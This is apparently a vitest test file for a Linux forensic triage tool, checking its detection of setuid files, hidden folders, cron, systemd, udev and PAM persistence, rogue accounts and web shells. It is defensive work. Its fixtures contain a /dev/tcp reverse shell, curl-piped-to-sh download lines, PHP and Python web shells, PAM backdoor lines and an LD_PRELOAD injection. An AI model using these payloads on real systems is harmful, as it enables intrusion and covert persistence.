import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { resultsOf, told } from './run.js';

const HEAD = 'path\ttype\tmode_octal\tuid\tgid\tsize\tatime\tmtime\tctime\tinode\tlink';
const row = (path: string, type: string, mode: string, size = 100) =>
  `${path}\t${type}\t${mode}\t0\t0\t${size}\t0\t1763600000\t1763600000\t7\t`;
const list = (...rows: readonly string[]) => ({ 'meta/files.tsv': `${[HEAD, ...rows].join('\n')}\n` });

describe('the list of files', () => {
  it('tells setuid programs where no package puts them, and those that give a shell', async () => {
    const { bad, info } = await resultsOf(
      list(
        row('/usr/bin/sudo', 'f', '4755'),
        row('/usr/bin/find', 'f', '4755'),
        row('/home/x/tool', 'f', '4755'),
        row('/tmp/.hid/sh', 'f', '4755'),
        row('/snap/core20/1/usr/bin/find', 'f', '4755'),
        row('/tmp', 'd', '1777'),
      ),
    );
    expect(told(bad)).toEqual([
      'file.setuid file:/usr/bin/find meta/files.tsv:3',
      'file.setuid file:/home/x/tool meta/files.tsv:4',
      'file.setuid file:/tmp/.hid/sh meta/files.tsv:5',
      'file.executable-in-temp file:/tmp/.hid/sh meta/files.tsv:5',
    ]);
    expect(info.filter(({ rule }) => rule === 'file.setuid').map(({ entity }) => entity)).toContain(
      'file:/usr/bin/sudo',
    );
  });

  it('tells hidden folders in odd places and not the usual ones', async () => {
    const { bad } = await resultsOf(
      list(
        ...[
          '/tmp/.X11-unix',
          '/tmp/.font-unix',
          '/usr/lib/.build-id',
          '/home/a/.cache',
          '/root/.ssh',
          '/etc/.java',
        ].map((path) => row(path, 'd', '755')),
        ...['/dev/shm/.x', '/var/tmp/.cache2', '/usr/bin/...', '/tmp/.. '].map((path) =>
          row(path, 'd', '755'),
        ),
        row('/dev/null2', 'f', '644'),
      ),
    );
    expect(bad.map(({ entity }) => entity)).toEqual([
      'file:/dev/shm/.x',
      'file:/var/tmp/.cache2',
      'file:/usr/bin/...',
      'file:/tmp/.. ',
      'file:/dev/null2',
    ]);
  });

  it('tells a file once though the walk shows it too', async () => {
    const { bad } = await resultsOf({ ...list(row('/tmp/.h/x', 'f', '755')), 'fs/tmp/.h/x': 'ELF' });
    expect(bad.length).toBe(1);
  });
});

describe('what survives a reboot', () => {
  it('finds schedules of every kind', async () => {
    const shell = 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1';
    const { bad } = await resultsOf({
      'fs/etc/crontab': `* * * * * root ${shell}\n`,
      'fs/var/spool/cron/crontabs/www-data': `@reboot ${shell}\n`,
      'fs/var/spool/cron/root': '*/5 * * * * /var/tmp/.sys/update\n',
      'fs/etc/cron.hourly/x': `#!/bin/sh\ncurl -s http://x.example/i.sh | sh\n`,
      'fs/etc/cron.d/ok': '17 * * * * root cd / && run-parts --report /etc/cron.hourly > /tmp/out 2>&1\n',
      'live/cron/etc/cron.d/live': `* * * * * root ${shell}\n`,
    });
    expect(told(bad)).toEqual([
      'persistence.cron.reverse_shell_dev_tcp file:/etc/crontab fs/etc/crontab:1',
      'persistence.cron.reverse_shell_dev_tcp file:/var/spool/cron/crontabs/www-data fs/var/spool/cron/crontabs/www-data:1',
      'persistence.cron.program_run_from_hidden_folder file:/var/spool/cron/root fs/var/spool/cron/root:1',
      'persistence.cron.download_piped_to_interpreter file:/etc/cron.hourly/x fs/etc/cron.hourly/x:2',
      'persistence.cron.reverse_shell_dev_tcp file:/etc/cron.d/live live/cron/etc/cron.d/live:1',
    ]);
  });

  it('finds units, drop-ins and start-up files', async () => {
    const { bad } = await resultsOf({
      'fs/etc/systemd/system/a.service': '[Service]\nExecStart=/dev/shm/.d/run\n',
      'fs/etc/systemd/system/ssh.service.d/x.conf':
        '[Service]\nExecStartPre=/bin/sh -c "curl http://x.example/a | sh"\n',
      'fs/usr/lib/systemd/system/ok.service': '[Service]\nExecStart=/usr/sbin/sshd -D\nEnvironment=LANG=C\n',
      'fs/etc/systemd/system/p.service': '[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n',
      'fs/root/.bashrc': '# curl x | sh\nalias ls=ls\nnohup /tmp/.x/run &\n',
    });
    expect(bad.map(({ entity, severity }) => [entity, severity])).toEqual([
      ['file:/etc/systemd/system/a.service', 'high'],
      ['file:/etc/systemd/system/ssh.service.d/x.conf', 'high'],
      ['file:/etc/systemd/system/p.service', 'high'],
      ['file:/root/.bashrc', 'high'],
    ]);
  });

  it('finds accounts, and leaves ordinary sudo rules for information', async () => {
    const { bad, info } = await resultsOf({
      'fs/etc/passwd':
        'root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\nwww-data:x:33:33::/var/www:/bin/bash\nopen::1001:1::/:/bin/bash\n',
      'fs/etc/shadow': 'root:*:1:\nblank::1:\n',
      'fs/etc/sudoers.d/90-cloud-init-users': 'admin ALL=(ALL) NOPASSWD:ALL\n',
      'fs/etc/group': 'sudo:x:27:admin\n',
    });
    expect(bad.map(({ rule, entity }) => `${rule} ${entity}`)).toEqual([
      'account.second-root user:toor',
      'account.service-with-shell user:www-data',
      'account.no-password user:open',
      'account.no-password user:blank',
    ]);
    expect(info.map(({ rule }) => rule)).toEqual(['account.sudo-without-password', 'account.admin-group']);
  });

  it('finds what runs when something else happens', async () => {
    const { bad } = await resultsOf({
      'fs/etc/udev/rules.d/99-x.rules':
        '# RUN+="/tmp/x"\nACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'/dev/shm/.u/run\'"\n',
      'fs/usr/lib/udev/rules.d/60-ok.rules': 'ACTION=="add", RUN+="/usr/sbin/ethtool -K $name"\n',
      'fs/etc/pam.d/sshd':
        '@include common-auth\nauth optional pam_exec.so quiet expose_authtok /usr/local/bin/log\n',
      'fs/etc/pam.d/su': 'auth sufficient pam_rootok.so\nauth sufficient pam_permit.so\n',
      'fs/etc/pam.d/common-auth':
        'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n',
    });
    expect(told(bad)).toEqual([
      'persistence.udev-rule file:/etc/udev/rules.d/99-x.rules fs/etc/udev/rules.d/99-x.rules:2',
      'persistence.pam file:/etc/pam.d/sshd fs/etc/pam.d/sshd:2',
      'persistence.pam file:/etc/pam.d/su fs/etc/pam.d/su:2',
    ]);
  });

  it('never shows a hash of a password', async () => {
    const { bad, info } = await resultsOf({
      'fs/etc/shadow': 'root:$6$secrethash:1:\nx::1:\n',
      'fs/etc/passwd': 'a:plainhash:0:0::/:/bin/sh\n',
    });
    expect(JSON.stringify([bad.filter(({ rule }) => rule === 'account.no-password'), info])).not.toMatch(
      /secrethash|plainhash/,
    );
  });
});

describe('the indicators of the finding', () => {
  it('are found with line and offset, and only when they stand alone', async () => {
    const text = `${'filler\n'.repeat(300)}x 1203.0.113.66 203.0.113.661 203.0.113.66\nhttp://c2.evil.example/a notevil.example evil.example.org\n`;
    const { bad } = await resultsOf({ 'fs/opt/app/conf': text });
    expect(bad.map(({ entity, evidence }) => [entity, evidence.map(({ line }) => line)])).toEqual([
      ['ip:203.0.113.66', [301]],
      ['domain:evil.example', [302]],
    ]);
    expect(bad[0]?.evidence[0]?.offsetBytes).toBe(text.indexOf(' 203.0.113.66\n') + 1);
  });
});

describe('the use of scripts', () => {
  const hit = (method: string, path: string, client = '192.0.2.50', status = 200) =>
    `${client} - - [20/Nov/2026:03:11:52 +0000] "${method} ${path} HTTP/1.1" ${status} 10 "-" "x"`;

  it('is joined with web shells on the disk, before or after the log in the archive', async () => {
    const shell = "<?php @system($_POST['c']);";
    const access = `${hit('POST', '/wp-content/uploads/a.php')}\n${hit('GET', '/wp-content/uploads/a.php?x=1')}\n${hit('POST', '/wp-login.php')}\n`;
    for (const order of [1, -1]) {
      const files = [
        ['fs/var/www/html/wp-content/uploads/a.php', shell],
        ['fs/var/log/nginx/access.log', access],
      ] as const;
      const { bad } = await resultsOf(Object.fromEntries(order === 1 ? files : [...files].reverse()));
      const used = bad.filter(({ rule }) => rule === 'web.shell-used');
      expect(used.map(({ entity, title }) => [entity, title])).toEqual([
        ['ip:192.0.2.50', '192.0.2.50 used /wp-content/uploads/a.php 2 times (1 POST)'],
      ]);
    }
  });

  it('is suspicious among uploads even when the file is gone, and not when it failed', async () => {
    const { bad } = await resultsOf({
      'fs/var/log/apache2/access.log': [
        hit('POST', '/uploads/x.php'),
        hit('POST', '/uploads/y.php', '192.0.2.51', 404),
        hit('GET', '/uploads/pic.jpg'),
        hit('POST', '/cart/'),
      ].join('\n'),
    });
    expect(told(bad)).toEqual(['web.script-among-uploads ip:192.0.2.50 fs/var/log/apache2/access.log:1']);
  });
});

describe('what a package lists', () => {
  const shell = "<?php @system($_POST['c']);";
  const path = '/usr/share/app/a.php';
  const md5 = createHash('md5').update(shell).digest('hex');

  it.each([1, -1])('is no finding any more, wherever the list lies in the evidence (%i)', async (order) => {
    const files = [
      [`fs${path}`, shell],
      ['fs/var/lib/dpkg/info/app.md5sums', `${md5}  usr/share/app/a.php\n`],
    ] as const;
    const { bad, info } = await resultsOf(Object.fromEntries(order === 1 ? files : [...files].reverse()));
    expect(bad).toEqual([]);
    expect(info.filter(({ rule }) => rule.startsWith('webshell')).map(({ entity }) => entity)).toEqual([
      `file:${path}`,
    ]);
  });

  it('leaves modules of a language for information', async () => {
    const shell =
      '#!/usr/bin/python3\nimport cgi, os, subprocess\nprint("Content-Type: text/html\\n")\nos.system(cgi.FieldStorage().getvalue("c"))\n';
    const { bad } = await resultsOf({
      'fs/root/.venv/lib/python3.12/site-packages/x.py': shell,
      'fs/var/www/cgi-bin/x.py': shell,
    });
    expect(bad.map(({ entity }) => entity)).toEqual(['file:/var/www/cgi-bin/x.py']);
  });

  it('is a finding when its bytes are others, or when it lies elsewhere', async () => {
    const { bad } = await resultsOf({
      [`fs${path}`]: `${shell} `,
      'fs/var/www/html/a.php': shell,
      'fs/var/lib/dpkg/info/app.md5sums': `${md5}  usr/share/app/a.php\n`,
    });
    expect(bad.map(({ entity }) => entity)).toEqual([`file:${path}`, 'file:/var/www/html/a.php']);
  });
});
